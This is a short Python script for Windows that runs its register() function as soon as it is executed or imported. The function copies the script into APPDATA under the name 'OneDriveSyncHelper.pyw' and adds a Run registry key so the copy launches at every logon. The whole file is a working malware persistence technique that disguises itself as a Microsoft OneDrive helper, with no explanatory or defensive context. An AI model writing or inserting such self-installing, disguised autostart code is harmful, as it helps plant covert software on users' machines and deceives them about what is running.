import os
import shutil
import sys

try:
    import winreg as reg
except ImportError:
    reg = None


def register(name="OneDriveSyncHelper"):
    target = os.path.join(os.environ["APPDATA"], name + ".pyw")
    shutil.copyfile(os.path.abspath(__file__), target)
    with reg.OpenKey(reg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, reg.KEY_SET_VALUE) as key:
        reg.SetValueEx(key, name, 0, reg.REG_SZ, f'"{sys.executable}" "{target}"')


if reg:
    register()
